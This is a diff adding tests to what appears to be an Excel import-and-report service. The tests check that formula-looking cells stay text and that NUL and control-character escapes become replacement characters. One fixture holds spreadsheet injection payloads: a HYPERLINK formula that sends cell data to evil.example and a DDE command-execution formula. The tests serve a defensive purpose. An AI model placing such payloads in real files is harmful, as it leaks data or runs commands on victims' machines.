@@ -197,3 +197,41 @@ def test_a_new_tenants_import_stays_linear_in_a_database_with_statistics(db):
                 params = {"tenant": new.id, "source": "list.xlsx"}
                 [[plan]] = s.execute(text(f"EXPLAIN (FORMAT JSON) {statement}"), params)
                 assert nested_loops_over_a_full_scan(plan[0]["Plan"]) == [], (settings, plan)
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_report(db, tmp_path):
+    """A client's cells holding "=HYPERLINK(…)" as text must not come back as live formulas."""
+    wb = Workbook()
+    for row in (["PIM-ID", "Bezeichnung"], ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0"]):
+        wb.active.append(row)
+    for cell in wb.active[2]:
+        cell.data_type = "s"  # text in the client's file, as Excel keeps a cell typed '=…
+    wb.save(tmp_path / "injection.xlsx")
+    assert db(tmp_path / "injection.xlsx").status == "ok"
+    with session(db.url) as s, s.begin():
+        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
+        report_path = attach_report(s, pending, tmp_path / "injection.xlsx", tmp_path / "reports")
+    cells = load_workbook(report_path).active[2]
+    assert [c.data_type for c in cells[1:3]] == ["s", "s"]
+    assert cells[2].value == "=cmd|' /C calc'!A0"
+
+
+def test_a_cell_escaping_nul_imports_with_the_replacement_character(db, tmp_path):
+    """Excel's _x0000_ escape spells U+0000, which PostgreSQL cannot hold: the import failed without
+    a class and took every other workbook of the tenant with it (_xD800_ is kept as written)."""
+    path = write(tmp_path / "escapes.xlsx", [["A_x0000_1", "Lager _xD800_", "Rillenkugellager", "Cage=Brass_x0000_"]])
+    record = db(path)
+    assert record.status == "ok", record.error
+    [product] = products(db.url).values()
+    assert (product.pim_id, product.name, product.materials) == ("A\ufffd1", "Lager _xD800_", {"Cage": "Brass\ufffd"})
+
+
+def test_control_characters_a_worksheet_cannot_hold_reach_the_report_as_the_replacement_character(db, tmp_path):
+    """Excel's _x0001_ and _x0000_ escapes spell control characters openpyxl refuses to write: the
+    report step failed without a class (IllegalCharacterError) after the import had succeeded."""
+    path = write(tmp_path / "controls.xlsx", [["C_x0000_1", "Lager_x0001_ 6204", None, None]])
+    assert db(path).status == "ok"
+    with session(db.url) as s, s.begin():
+        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
+        report_path = attach_report(s, pending, path, tmp_path / "reports")
+    assert [c.value for c in load_workbook(report_path).active[2]][1:3] == ["C\ufffd1", "Lager\ufffd 6204"]
